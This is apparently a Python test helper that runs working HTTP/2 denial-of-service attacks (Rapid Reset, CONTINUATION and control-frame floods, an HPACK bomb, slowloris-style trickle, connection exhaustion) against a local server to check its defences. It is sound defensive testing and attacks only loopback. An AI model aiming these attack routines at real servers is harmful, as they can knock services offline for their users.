"""HTTP/2 attacks on the server, for tests/http2_attacks.rs.

Each attack opens its own TLS connection (ALPN h2) to 127.0.0.1:PORT, plays
one abusive client with Python's h2 library (hyperframe and hpack for the
frames h2 itself refuses to send), and prints one JSON line saying what the
server did: whether and when it closed the connection, the GOAWAY error code,
how many streams it answered or refused, and what the client managed to send.

    python3 tests/h2attack.py ATTACK --port PORT [--seconds S]

Needs Debian's python3-h2 (h2, hyperframe, hpack). Only loopback is attacked.
"""

import argparse
import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack
import hyperframe.frame as hf

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
REQUEST = [(":method", "GET"), (":scheme", "https"), (":authority", "portfolio.test"), (":path", "/")]


class Outcome:
    """What the server did to one attacking connection."""

    def __init__(self):
        self.started = time.monotonic()
        self.closed_after = None  # seconds, when the server closed the connection
        self.goaway = None  # the GOAWAY error code, if one came
        self.answered = 0  # streams that got response headers
        self.statuses = []  # their statuses, as far as read with a state machine
        self.refused = 0  # streams the server reset
        self.sent_frames = 0
        self.sent_bytes = 0

    def closed(self):
        if self.closed_after is None:
            self.closed_after = round(time.monotonic() - self.started, 3)

    def report(self, attack):
        return {"attack": attack, **{k: v for k, v in vars(self).items() if k != "started"}}


told_connected = False


def connect(port, timeout=0.2):
    global told_connected
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port))
    tls = context.wrap_socket(raw, server_hostname="portfolio.test")
    assert tls.selected_alpn_protocol() == "h2", tls.selected_alpn_protocol()
    tls.settimeout(timeout)
    if not told_connected:
        # Once, on stderr: a test that must not act before the attack has begun waits for it.
        print("connected", file=sys.stderr, flush=True)
        told_connected = True
    return tls


class Client:
    """An h2 client connection whose bytes go through `send`, counted."""

    def __init__(self, port, settings=None):
        self.sock = connect(port)
        self.outcome = Outcome()
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.h2 = h2.connection.H2Connection(config=config)
        self.h2.local_settings = h2.settings.Settings(client=True, initial_values=settings or {})
        self.h2.initiate_connection()
        self.flush()

    def flush(self):
        data = self.h2.data_to_send()
        if data:
            self.send_raw(data)

    def send_raw(self, data, frames=1):
        try:
            self.sock.sendall(data)
        except (OSError, ssl.SSLError):
            self.outcome.closed()
            return False
        self.outcome.sent_frames += frames
        self.outcome.sent_bytes += len(data)
        return True

    def pump(self, wait=0.0, reply=True):
        """Reads what the server sent within `wait` seconds, answering it
        (SETTINGS, PING) when `reply`; False once the server closed."""
        deadline = time.monotonic() + wait
        while True:
            try:
                data = self.sock.recv(65536)
            except (socket.timeout, TimeoutError, ssl.SSLWantReadError):
                data = None
            except (OSError, ssl.SSLError):
                data = b""
            if data == b"":
                self.outcome.closed()
                return False
            if data:
                try:
                    events = self.h2.receive_data(data)
                except h2.exceptions.ProtocolError:
                    events = []
                for event in events:
                    if isinstance(event, h2.events.ResponseReceived):
                        self.outcome.answered += 1
                        self.outcome.statuses.append(int(dict(event.headers)[":status"]))
                    elif isinstance(event, h2.events.StreamReset):
                        self.outcome.refused += 1
                    elif isinstance(event, h2.events.ConnectionTerminated):
                        self.outcome.goaway = int(event.error_code)
                if reply:
                    self.flush()
                continue
            if time.monotonic() >= deadline:
                return True

    def wait_for_close(self, seconds):
        end = time.monotonic() + seconds
        while time.monotonic() < end and self.pump(0.2):
            pass
        return self.outcome


def rapid_reset(port, seconds):
    """CVE-2023-44487: open streams and cancel them at once, as fast as possible."""
    client = Client(port)
    end = time.monotonic() + seconds
    while time.monotonic() < end and client.outcome.closed_after is None:
        for _ in range(100):
            try:
                stream = client.h2.get_next_available_stream_id()
                client.h2.send_headers(stream, REQUEST, end_stream=True)
                client.h2.reset_stream(stream, error_code=8)
            except h2.exceptions.ProtocolError:
                break
        data = client.h2.data_to_send()
        if not client.send_raw(data, 200):
            break
        client.pump()
    return client.wait_for_close(1)


def continuation_flood(port, seconds):
    """2024's CONTINUATION flood: one header block that never ends."""
    client = Client(port)
    encoder = hpack.Encoder()
    block = encoder.encode(REQUEST)
    client.send_raw(hf.HeadersFrame(1, data=block).serialize())
    end = time.monotonic() + seconds
    piece = encoder.encode([("x-flood", "a" * 100)])
    while time.monotonic() < end and client.outcome.closed_after is None:
        frames = b"".join(hf.ContinuationFrame(1, data=piece).serialize() for _ in range(50))
        if not client.send_raw(frames, 50):
            break
        client.pump()
    return client.wait_for_close(1)


def settings_flood(port, seconds):
    """SETTINGS frames sent without reading the acknowledgements (CVE-2019-9515)."""
    return control_flood(port, seconds, hf.SettingsFrame(0, settings={hf.SettingsFrame.MAX_CONCURRENT_STREAMS: 100}))


def ping_flood(port, seconds):
    """PING frames sent without reading the answers (CVE-2019-9512)."""
    return control_flood(port, seconds, hf.PingFrame(0, opaque_data=b"12345678"))


def control_flood(port, seconds, frame):
    client = Client(port)
    client.sock.settimeout(1)
    batch = frame.serialize() * 100
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if not client.send_raw(batch, 100):
            break
    # Never read: the server's answers pile up until it stops reading or gives up.
    client.sock.settimeout(0.2)
    return client.wait_for_close(max(0.0, end - time.monotonic()) + 1)


def empty_frames_flood(port, seconds):
    """WINDOW_UPDATE and empty DATA frames, which cost the server work and carry nothing (CVE-2019-9518)."""
    client = Client(port)
    stream = client.h2.get_next_available_stream_id()
    client.h2.send_headers(stream, REQUEST, end_stream=False)
    client.flush()
    batch = (hf.WindowUpdateFrame(0, window_increment=1).serialize() + hf.DataFrame(stream, data=b"").serialize()) * 50
    end = time.monotonic() + seconds
    while time.monotonic() < end and client.outcome.closed_after is None:
        if not client.send_raw(batch, 100):
            break
        client.pump()
    return client.wait_for_close(1)


def too_many_streams(port, seconds):
    """Opens 400 streams while keeping every answer's window shut, past the advertised limit."""
    client = Client(port, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    client.pump(0.3)  # the server's SETTINGS, with its stream limit
    client.h2.remote_settings = h2.settings.Settings(client=False, initial_values={h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 1000})
    encoder = hpack.Encoder()
    frames = b""
    for n in range(400):
        frames += hf.HeadersFrame(1 + 2 * n, data=encoder.encode(REQUEST), flags=["END_STREAM", "END_HEADERS"]).serialize()
    client.send_raw(frames, 400)
    raw_events(client, seconds)
    return client.outcome


def raw_events(client, seconds):
    """Reads frames without an h2 state machine (for streams it did not open)."""
    buffer = b""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            data = client.sock.recv(65536)
        except (socket.timeout, TimeoutError, ssl.SSLWantReadError):
            continue
        except (OSError, ssl.SSLError):
            data = b""
        if not data:
            client.outcome.closed()
            return
        buffer += data
        while len(buffer) >= 9:
            frame, length = hf.Frame.parse_frame_header(memoryview(buffer[:9]))
            if len(buffer) < 9 + length:
                break
            frame.parse_body(memoryview(buffer[9 : 9 + length]))
            buffer = buffer[9 + length :]
            if isinstance(frame, hf.HeadersFrame):
                client.outcome.answered += 1
            elif isinstance(frame, hf.RstStreamFrame):
                client.outcome.refused += 1
            elif isinstance(frame, hf.GoAwayFrame):
                client.outcome.goaway = frame.error_code
            elif isinstance(frame, hf.SettingsFrame) and "ACK" not in frame.flags:
                client.send_raw(hf.SettingsFrame(0, flags=["ACK"]).serialize())
            elif isinstance(frame, hf.PingFrame) and "ACK" not in frame.flags:
                client.send_raw(hf.PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]).serialize())


def big_header_list(port, seconds):
    """One request whose header list is beyond the advertised 16 KiB."""
    client = Client(port)
    stream = client.h2.get_next_available_stream_id()
    client.h2.send_headers(stream, REQUEST + [(f"x-big-{n}", "a" * 1000) for n in range(24)], end_stream=True)
    client.flush()
    end = time.monotonic() + seconds
    while time.monotonic() < end and not client.outcome.statuses and client.pump(0.2):
        pass
    return client.outcome


def hpack_bomb(port, seconds):
    """One 4 KB header in the HPACK table, then referenced 4,000 times in one block (16 MB once decoded)."""
    client = Client(port)
    block = hpack.Encoder().encode(REQUEST + [("x-bomb", "b" * 4000)] * 4000)
    pieces = [block[i : i + 16000] for i in range(0, len(block), 16000)]
    frames = hf.HeadersFrame(1, data=pieces[0], flags=["END_STREAM"] + (["END_HEADERS"] if len(pieces) == 1 else [])).serialize()
    for n, piece in enumerate(pieces[1:], 2):
        frames += hf.ContinuationFrame(1, data=piece, flags=["END_HEADERS"] if n == len(pieces) else []).serialize()
    client.send_raw(frames, len(pieces))
    raw_events(client, seconds)
    return client.outcome


def silent(port, seconds):
    """A TLS handshake for h2, then nothing: not even the connection preface."""
    client = Outcome()
    sock = connect(port)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            if sock.recv(65536) == b"":
                break
        except (socket.timeout, TimeoutError, ssl.SSLWantReadError):
            continue
        except (OSError, ssl.SSLError):
            break
    else:
        return client
    client.closed()
    return client


def silent_crowd(port, seconds, clients=40):
    """`clients` silent connections at once, each opened again as soon as the
    server cuts it: the attack that kept every connection slot taken."""
    import threading

    held = []

    def one():
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            try:
                outcome = silent(port, end - time.monotonic())
            except (OSError, ssl.SSLError):
                continue
            if outcome.closed_after is not None:
                held.append(outcome.closed_after)

    threads = [threading.Thread(target=one) for _ in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    crowd = Outcome()
    crowd.closed_after = max(held, default=None)  # the longest any connection was held
    crowd.sent_frames = len(held)  # connections the server cut
    return crowd


def trickle(port, seconds):
    """The preface, then a request's header block one byte every half second (slowloris over HTTP/2)."""
    client = Client(port)
    client.pump(0.3)  # the server's SETTINGS, acknowledged before the trickle starts
    encoder = hpack.Encoder()
    frame = hf.HeadersFrame(1, data=encoder.encode(REQUEST), flags=["END_STREAM", "END_HEADERS"]).serialize()
    end = time.monotonic() + seconds
    for byte in frame[:-1]:
        # Reading without replying: a reply would land inside the half-sent frame.
        if time.monotonic() >= end or not client.send_raw(bytes([byte])) or not client.pump(0.5, reply=False):
            break
    return client.wait_for_close(max(0.0, end - time.monotonic()))


def stalled_reader(port, seconds):
    """Asks for the largest file with its flow-control window shut, and never opens it."""
    client = Client(port, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    client.pump(0.3)
    stream = client.h2.get_next_available_stream_id()
    client.h2.send_headers(stream, REQUEST, end_stream=True)
    client.flush()
    return client.wait_for_close(seconds)


ATTACKS = {f.__name__: f for f in [
    rapid_reset, continuation_flood, settings_flood, ping_flood, empty_frames_flood,
    too_many_streams, big_header_list, hpack_bomb, silent, silent_crowd, trickle, stalled_reader,
]}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=3.0, help="how long to attack or to wait for the server")
    args = parser.parse_args()
    outcome = ATTACKS[args.attack](args.port, args.seconds)
    print(json.dumps(outcome.report(args.attack)), flush=True)


if __name__ == "__main__":
    main()
